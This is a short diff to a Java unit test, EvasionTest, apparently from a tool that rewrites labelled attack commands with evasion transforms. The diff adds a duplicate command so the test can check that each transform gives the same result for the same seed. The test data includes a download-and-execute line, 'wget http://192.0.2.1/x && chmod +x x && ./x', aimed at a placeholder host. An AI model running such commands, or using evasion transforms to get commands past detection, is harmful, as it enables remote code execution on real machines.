@@ -98,8 +98,9 @@ class EvasionTest {
   @Test
   void isAFunctionOfLineSystemAndSeed() {
     LabelledCommand attack = attack("wget http://192.0.2.1/x && chmod +x x && ./x", "linux");
+    LabelledCommand equal = attack("wget http://192.0.2.1/x && chmod +x x && ./x", "linux");
     for (Evasion evasion : Evasion.values()) {
-      assertThat(evasion.apply(attack, 7)).isEqualTo(evasion.apply(attack, 7));
+      assertThat(evasion.apply(attack, 7)).isEqualTo(evasion.apply(equal, 7));
       assertThat(List.of(evasion.apply(attack, 8), evasion.apply(attack, 9)))
           .anyMatch(other -> !other.equals(evasion.apply(attack, 7)));
     }
